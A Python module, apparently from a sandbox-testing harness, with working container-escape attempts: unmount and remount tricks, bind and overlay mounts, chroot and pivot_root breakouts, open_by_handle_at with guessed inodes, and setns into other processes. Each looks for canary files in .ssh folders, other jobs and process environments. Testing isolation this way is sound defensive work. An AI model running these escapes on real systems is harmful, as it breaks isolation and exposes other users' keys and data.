"""Attacks by namespaces and mounts: root of a user namespace tries to undo what the container's mounts hide."""

import ctypes
import os
import re
import struct
from collections.abc import Iterator
from pathlib import Path

from .loot import canaries_below, leave_marks, tried
from .orders import Orders, attack
from .processes import canaries_of_process, strangers
from .system import (
    MNT_DETACH,
    MS_BIND,
    MS_REC,
    MS_REMOUNT,
    checked,
    enter_user_namespace,
    libc,
    mount,
    syscall,
    unmount,
)

NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304
OPEN_TREE, MOUNT_SETATTR = 428, 442
OPEN_TREE_CLONE, AT_RECURSIVE = 1, 0x8000
AT_FDCWD = -100
NAMESPACES = ("user", "mnt", "pid", "ipc", "cgroup", "uts")
HANDLE_BYTES = 128
GUESSED_HANDLES = [struct.pack("IiII", 8, 1, inode, 0) for inode in (2, 64, 96, 128, 256, 1)]
"""Of the roots of ext4, XFS and btrfs."""


@attack
def unmounting(orders: Orders) -> Iterator[str]:
    """Each mount taken away, the topmost first: what lies below shows."""
    enter_user_namespace()
    for target in reversed(mount_points()):
        for flags in (0, MNT_DETACH):
            with tried(f"unmount {target}"):
                unmount(target, flags)
    yield from host_canaries(orders)


@attack
def remounting(orders: Orders) -> Iterator[str]:
    """Each read-only mount made writable."""
    enter_user_namespace()
    for target in mount_points():
        with tried(f"remount {target}"):
            mount("none", target, flags=MS_REMOUNT | MS_BIND)
    places = (orders.attempt, orders.folder, Path(orders.root), Path("/srv/models"), Path("/mnt"))
    leave_marks(places, orders.mark("remounting"))
    yield from ()


@attack
def remounting_attributes(orders: Orders) -> Iterator[str]:
    """The same by mount_setattr, and by clones of the mounts that leave the flag out."""
    enter_user_namespace()
    clear_read_only = struct.pack("QQQQ", 0, 1, 0, 0)
    for target in mount_points():
        with tried(f"mount_setattr {target}"):
            syscall(MOUNT_SETATTR, AT_FDCWD, target.encode(), AT_RECURSIVE, clear_read_only, len(clear_read_only))
    leave_marks((orders.attempt, orders.folder, "/srv/models"), orders.mark("remounting_attributes"))
    yield from ()


@attack
def bind_mounts(orders: Orders) -> Iterator[str]:
    """Folders bound elsewhere without what is mounted below them."""
    for source in ("/", "/home", orders.home, orders.root, "/tmp", "/proc/1/root", "/proc/self/cwd", "/proc"):
        yield from in_namespace_with(orders, source, MS_BIND)
        yield from in_namespace_with(orders, source, MS_BIND | MS_REC)


@attack
def cloned_trees(orders: Orders) -> Iterator[str]:
    """The same by open_tree(2), which needs no place to mount on."""
    enter_user_namespace()
    for source in ("/", "/home", orders.home, orders.root, str(orders.folder), "/srv"):
        with tried(f"open_tree {source}"):
            tree = syscall(OPEN_TREE, AT_FDCWD, source.encode(), OPEN_TREE_CLONE)
            yield from canaries_below(f"/proc/self/fd/{tree}{orders.home}/.ssh", f"/proc/self/fd/{tree}/.ssh")
            yield from canaries_below(f"/proc/self/fd/{tree}/packtrain/.ssh", f"/proc/self/fd/{tree}/jobs")


@attack
def overlay_mounts(orders: Orders) -> Iterator[str]:
    """An overlay whose lower folder is the hidden one."""
    enter_user_namespace()
    for lower in ("/home", orders.root, str(orders.folder)):
        for option in ("", ",userxattr"):
            with tried(f"overlay {lower}{option}"):
                mount("none", "/media", "overlay", data=f"lowerdir={lower}:/srv{option}")
                yield from canaries_below("/media/packtrain/.ssh", "/media/jobs")


@attack
def new_proc(orders: Orders) -> Iterator[str]:
    """A process file system mounted anew."""
    enter_user_namespace()
    with tried("mount proc"):
        mount("proc", "/proc", "proc")
    for pid in strangers():
        yield from canaries_of_process(pid, "environ")


@attack
def chroot_breakout(orders: Orders) -> Iterator[str]:
    """chroot(2) below a folder that is still open, then upwards."""
    enter_user_namespace()
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp")
    os.fchdir(above)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    yield from host_canaries(orders)


@attack
def pivot_root(orders: Orders) -> Iterator[str]:
    """pivot_root(2) to a bind of the root, which brings back what was mounted over."""
    enter_user_namespace()
    with tried("bind /"):
        mount("/", "/tmp", flags=MS_BIND | MS_REC)
    os.chdir("/tmp")
    checked(libc.pivot_root(b".", b"."))
    unmount(".", MNT_DETACH)
    yield from host_canaries(orders)


@attack
def file_handles(orders: Orders) -> Iterator[str]:
    """open_by_handle_at(2): a folder of a file system past all mounts, and its root by guessed numbers."""
    for privilege in ("user", "root"):
        if privilege == "root":
            enter_user_namespace()
        for place in (str(orders.output), str(orders.attempt), "/", "/dev/shm", "/tmp", "/srv/models"):
            for handle in (own_handle(place), *GUESSED_HANDLES):
                yield from by_handle(place, handle)


@attack
def other_namespaces(orders: Orders) -> Iterator[str]:
    """setns(2) into the namespaces of other processes."""
    for pid in [1, os.getppid(), *strangers()]:
        for kind in NAMESPACES:
            with tried(f"setns {pid} {kind}"):
                checked(libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0))
    yield from host_canaries(orders)


@attack
def other_mount_tables(orders: Orders) -> Iterator[str]:
    """What /proc/PID/mountinfo tells of other people's jobs."""
    for pid in strangers():
        with tried(f"mounts of {pid}"):
            text = Path(f"/proc/{pid}/mountinfo").read_text(encoding="utf-8")
            yield from (job for job in orders.others if job in text)


def host_canaries(orders: Orders) -> Iterator[str]:
    """What of the host shows at its usual places."""
    yield from canaries_below(f"{orders.home}/.ssh", "/tmp", "/var/tmp", "/dev/shm", f"{orders.root}/jobs")


def in_namespace_with(orders: Orders, source: str, flags: int) -> Iterator[str]:
    """The canaries of a bind, seen by a process that has made its own namespaces for it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        with tried("user namespace"):
            enter_user_namespace()
            mount(source, "/tmp", flags=flags)
            places = ("/tmp/.ssh", "/tmp/packtrain/.ssh", f"/tmp{orders.home}/.ssh", "/tmp/jobs")
            os.write(writer, " ".join(canaries_below(*places)).encode())
        os._exit(0)
    os.close(writer)
    os.waitpid(child, 0)
    with os.fdopen(reader) as pipe:
        yield from pipe.read().split()


def own_handle(place: str) -> bytes:
    """The handle of a folder as the kernel tells it, or an empty one."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", HANDLE_BYTES, 0), 8 + HANDLE_BYTES)
    number = ctypes.create_string_buffer(4)
    with tried(f"handle of {place}"):
        syscall(NAME_TO_HANDLE_AT, AT_FDCWD, place.encode(), buffer, number, 0)
    return buffer.raw


def by_handle(place: str, handle: bytes) -> Iterator[str]:
    """The canaries of a folder that is opened by its handle."""
    buffer = ctypes.create_string_buffer(handle, len(handle))
    with tried(f"open a handle of {place}"):
        folder = syscall(OPEN_BY_HANDLE_AT, os.open(place, os.O_RDONLY), buffer, os.O_RDONLY)
        yield from canaries_below(f"/proc/self/fd/{folder}")


def mount_points() -> list[str]:
    """Where something is mounted, in the order of mounting."""
    lines = Path("/proc/self/mountinfo").read_text(encoding="utf-8").splitlines()
    return [re.sub(r"\\([0-7]{3})", lambda code: chr(int(code[1], 8)), line.split()[4]) for line in lines]
